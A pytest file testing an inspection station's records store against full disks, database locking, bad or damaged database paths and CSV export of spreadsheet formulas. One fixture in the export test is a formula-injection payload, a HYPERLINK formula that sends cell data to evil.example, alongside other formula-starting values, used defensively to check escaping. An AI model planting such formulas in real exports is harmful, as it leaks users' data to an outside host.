"""Records under a hostile environment: a full disk, a second station, a bad database path,
and cells a spreadsheet would run as formulas.

The disk is made to refuse writes for real: a file-size limit (``RLIMIT_FSIZE``, needs no
root) in a child process, and where user namespaces allow it a real 3 MB tmpfs.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import numpy as np
import pytest

from station.cli import main as station_main
from station.records import PartRecord, Records, RecordsError

REPO = Path(__file__).resolve().parents[2]
ENV = {**os.environ, "PYTHONPATH": str(REPO)}


def run_child(script: str, *args: str, timeout: float = 60) -> dict:
    """Run ``script`` in a fresh interpreter; it prints one JSON line last."""
    proc = subprocess.run([sys.executable, "-c", textwrap.dedent(script), *args],
                          capture_output=True, text=True, env=ENV, timeout=timeout)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


DISK_REFUSES = """
    import json, resource, signal, sys
    import numpy as np
    from station.records import PartRecord, Records
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of being killed
    root = sys.argv[1]
    heard = []
    rec = Records(f"{root}/s.sqlite", f"{root}/img", 50, pass_sample_rate=1.0,
                  min_free_mb=0, retry_s=0.1)
    rec.add_alarm_listener(lambda kind, msg: heard.append([kind, msg]))
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    big = np.random.default_rng(0).integers(0, 256, (300, 300, 3), dtype=np.uint8)
    out = {}
    # 1. files may not grow past 128 KB: the 260 KB images fail, the rows must not
    resource.setrlimit(resource.RLIMIT_FSIZE, (128 * 1024, hard))
    for i in range(10):
        rec.submit(PartRecord(part_id=f"P{i:02d}", verdict="REJECT"), {"crop": big})
    out["flushed_1"] = rec.flush(20)
    out["rows_1"] = rec.counts()["inspected"]
    out["image_failures_1"] = rec.image_failures
    # 2. nothing may grow past one page: the database refuses the rows themselves
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, hard))
    for i in range(10, 20):
        rec.submit(PartRecord(part_id=f"P{i:02d}", verdict="PASS"))
    rec.on_fired("P12", "pass", 1.0, 1.0005, "verdict PASS")
    out["flushed_2"] = rec.flush(5)
    out["unwritten_2"] = rec.unwritten
    out["rows_2"] = rec.counts()["inspected"]
    # 3. space again: the kept rows are written, in order, with their reject outcome
    resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    out["flushed_3"] = rec.flush(20)
    out["ids"] = [r["part_id"] for r in rec.recent(100)][::-1]
    out["p12_action"] = rec.get("P12")["reject_action"]
    out["images"] = sum(len(r["images"]) for r in rec.recent(100))
    out["alarms"] = heard
    rec.close()
    print(json.dumps(out))
"""


@pytest.mark.timeout(120)
def test_a_disk_that_refuses_writes_loses_no_row(tmp_path: Path):
    out = run_child(DISK_REFUSES, str(tmp_path))
    # images that cannot be written: the rows are there, one disk alarm
    assert out["flushed_1"] and out["rows_1"] == 10 and out["image_failures_1"] == 10
    # rows the database refuses: kept in memory, said so, not dropped
    assert out["flushed_2"] is False and out["unwritten_2"] == 11 and out["rows_2"] == 10
    # written once the disk takes writes again, in order, none twice
    assert out["flushed_3"] is True
    assert out["ids"] == [f"P{i:02d}" for i in range(20)]
    assert out["p12_action"] == "pass" and out["images"] == 0
    kinds = [k for k, _ in out["alarms"]]
    assert kinds == ["disk", "records"]
    assert "File too large" in out["alarms"][0][1] and "still recorded" in out["alarms"][0][1]
    assert "refuses writes" in out["alarms"][1][1] and "kept in memory" in out["alarms"][1][1]


TINY_DISK = """
    import json, sys
    import numpy as np
    from station.records import PartRecord, Records
    root = sys.argv[1]
    heard = []
    rec = Records(f"{root}/station.sqlite", f"{root}/images", 50, pass_sample_rate=1.0,
                  min_free_mb=1.0, retry_s=0.2)
    rec.add_alarm_listener(lambda kind, msg: heard.append(kind))
    for i in range(60):  # 60 x 48 KB of images on a 3 MB disk with 1 MB kept for the rows
        img = np.random.default_rng(i).integers(0, 256, (128, 128, 3), dtype=np.uint8)
        rec.submit(PartRecord(part_id=f"P{i:03d}", verdict="REJECT"), {"crop": img})
    out = {"flushed": rec.flush(30), "ids": [r["part_id"] for r in rec.recent(100)][::-1],
           "with_images": sum(bool(r["images"]) for r in rec.recent(100)), "alarms": heard}
    rec.close()
    print(json.dumps(out))
"""


def _tmpfs_available() -> bool:
    try:
        return subprocess.run(["unshare", "-rm", "sh", "-c", "mount -t tmpfs none /mnt"],
                              capture_output=True, timeout=10).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


@pytest.mark.timeout(120)
@pytest.mark.skipif(not _tmpfs_available(), reason="no unprivileged user+mount namespaces here")
def test_on_a_real_tiny_filesystem_images_stop_at_the_reserve_and_every_row_is_kept(tmp_path):
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    script = tmp_path / "child.py"
    script.write_text(textwrap.dedent(TINY_DISK))
    proc = subprocess.run(
        ["unshare", "-rm", "sh", "-c",
         f'mount -t tmpfs -o size=3m tmpfs "{mnt}" && exec "{sys.executable}" "{script}" "{mnt}"'],
        capture_output=True, text=True, env=ENV, timeout=100)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["flushed"] and out["ids"] == [f"P{i:03d}" for i in range(60)]
    assert 10 <= out["with_images"] < 60  # images until the reserve, then rows only
    assert out["alarms"] == ["disk"]


def test_the_free_space_reserve_comes_before_images(tmp_path: Path):
    heard = []
    reserve = 1e9  # more than any disk has free: no image may be written
    with Records(tmp_path / "r.sqlite", tmp_path / "img", 10, pass_sample_rate=1.0,
                 min_free_mb=reserve) as rec:
        rec.add_alarm_listener(lambda kind, msg: heard.append((kind, msg)))
        for i in range(5):
            rec.submit(PartRecord(part_id=f"P{i}", verdict="REJECT"),
                       {"crop": np.zeros((16, 16), np.uint8)})
        assert rec.flush()
        assert rec.counts()["inspected"] == 5 and rec.image_bytes() == 0
        assert rec.image_failures == 5
    assert [k for k, _ in heard] == ["disk"] and "records.min_free_mb" in heard[0][1]


SECOND_STATION = """
    import json, sys
    from station.records import Records, RecordsError
    try:
        Records(sys.argv[1], sys.argv[2], 10)
        print(json.dumps({"opened": True}))
    except RecordsError as exc:
        print(json.dumps({"opened": False, "error": str(exc)}))
"""


def test_a_second_station_on_the_same_database_is_refused(tmp_path: Path):
    db = tmp_path / "shared.sqlite"
    with Records(db, tmp_path / "img", 10):
        out = run_child(SECOND_STATION, str(db), str(tmp_path / "img2"))
        assert out["opened"] is False
        assert out["error"] == (f"records database {db} is in use by another station "
                                f"(pid {os.getpid()}, lock {db}.lock); give each station its "
                                "own records.database")
        # within one process it is one station handing over (the GUI reloading a recipe)
        with Records(db, tmp_path / "img", 10) as handover:
            handover.submit(PartRecord(part_id="1", verdict="PASS"))
            assert handover.flush()
        # the hand-over closing does not free the database for another process
        assert run_child(SECOND_STATION, str(db), str(tmp_path / "img2"))["opened"] is False
    # closed (or the process gone, even killed): the next station opens it
    assert run_child(SECOND_STATION, str(db), str(tmp_path / "img2")) == {"opened": True}
    with Records(db, tmp_path / "img", 10) as again:
        assert again.counts()["inspected"] == 1


def _records_error_as_unprivileged(db: Path) -> str:
    """The RecordsError message for ``db``, raised by a process that honours permissions
    (a forked child dropped to ``nobody`` when the tests run as root)."""
    if os.geteuid() != 0:
        with pytest.raises(RecordsError) as caught:
            Records(db, db.parent / "img", 1)
        return str(caught.value)
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        try:
            os.setgid(65534)
            os.setuid(65534)
            try:
                Records(db, db.parent / "img", 1)
                message = "opened"
            except RecordsError as exc:
                message = str(exc)
            except BaseException as exc:  # noqa: BLE001 - reported to the parent
                message = f"{type(exc).__name__}: {exc}"
            os.write(write, message.encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as f:
        message = f.read()
    os.waitpid(pid, 0)
    return message


def test_a_database_path_that_cannot_be_used_is_one_clear_line(tmp_path: Path):
    folder = tmp_path / "a_folder"
    folder.mkdir()
    with pytest.raises(RecordsError) as caught:
        Records(folder, tmp_path / "img", 1)
    assert str(caught.value) == (f"records database {folder}: is a folder; expected a file "
                                 f"such as {folder / 'station.sqlite'}")
    with pytest.raises(RecordsError, match=r"^records database /proc/station\.sqlite: /proc is "
                                           r"a system pseudo-filesystem, not a disk"):
        Records("/proc/station.sqlite", tmp_path / "img", 1)
    blocker = tmp_path / "file"
    blocker.write_text("a file where a folder should be")
    with pytest.raises(RecordsError, match=r"cannot create its folder .*file/sub: "):
        Records(blocker / "sub" / "db.sqlite", tmp_path / "img", 1)
    # a folder every user can reach (pytest's own tmp folders are private to their owner)
    base = Path(tempfile.mkdtemp(prefix="station-ro-"))
    base.chmod(0o755)
    locked = base / "readonly"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        message = _records_error_as_unprivileged(locked / "db.sqlite")
    finally:
        locked.chmod(0o755)
        shutil.rmtree(base)
    assert message == f"records database {locked / 'db.sqlite'}: folder {locked} is not writable"
    for m in (str(caught.value), message):
        assert "\n" not in m


def test_an_images_folder_that_cannot_take_images_is_refused_at_start(tmp_path: Path):
    """It was accepted, and every image of the run then failed with an alarm."""
    db = tmp_path / "r.sqlite"
    with pytest.raises(RecordsError, match=r"^records.images_dir: /proc is a system "
                                           r"pseudo-filesystem, not a disk"):
        Records(db, "/proc/station-images", 1)
    blocker = tmp_path / "file"
    blocker.write_text("a file where the images folder should be")
    with pytest.raises(RecordsError, match=r"^records.images_dir: cannot create .*file/img: "):
        Records(db, blocker / "img", 1)
    with Records(db, "/proc/station-images", 0):  # no images kept: no folder needed
        pass


def test_a_damaged_database_is_a_records_error_that_names_it(tmp_path: Path):
    """A file with garbage over its pages opened, and the station's first read of it stopped
    with "internal error: DatabaseError: database disk image is malformed"."""
    db = tmp_path / "records.sqlite"
    with Records(db, tmp_path / "img", 1) as records:
        for i in range(400):  # alarms over several pages
            records.raise_alarm("test", f"alarm {i} " + "x" * 200)
    data = bytearray(db.read_bytes())
    assert len(data) > 16 * 4096
    data[8 * 4096:12 * 4096] = b"\xff" * (4 * 4096)  # pages in the middle, not the header
    db.write_bytes(bytes(data))
    records = Records(db, tmp_path / "img", 1)
    try:
        with pytest.raises(RecordsError, match=rf"^records database {db}: cannot read it "
                                               r"\(.*malformed.*\); move the damaged file aside"):
            records.alarms(n=1000)
    finally:
        records.close()


def test_export_escapes_cells_a_spreadsheet_would_run(tmp_path: Path, capsys):
    db = tmp_path / "station.sqlite"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Records(db, tmp_path / "img", 10) as rec:
        rec.submit(PartRecord(part_id="+1", verdict="ERROR", recipe=hostile, reasons="@SUM(A1)",
                              error="-2+3", ae_score_raw=-0.5, time_epoch=time.time()))
        rec.submit(PartRecord(part_id="2", verdict="PASS", recipe="\tTAB", reasons="\rCR",
                              error="plain text"))
        assert rec.flush()
    out = tmp_path / "parts.csv"
    assert station_main(["export-records", "--db", str(db), "--csv", str(out)]) == 0
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["recipe"] == "'" + hostile and rows[0]["part_id"] == "'+1"
    assert rows[0]["reasons"] == "'@SUM(A1)" and rows[0]["error"] == "'-2+3"
    assert rows[0]["ae_score_raw"] == "-0.5"  # a number stays a number
    assert rows[1]["recipe"] == "'\tTAB" and rows[1]["reasons"] == "'\rCR"
    assert rows[1]["error"] == "plain text" and rows[1]["verdict"] == "PASS"
    assert station_main(["export-records", "--db", str(tmp_path), "--csv", str(out)]) == 2
    assert "is a folder, not a database file" in capsys.readouterr().err


def test_schema_doctests_hold():
    import doctest

    import station.records.schema

    result = doctest.testmod(station.records.schema)
    assert result.attempted and not result.failed
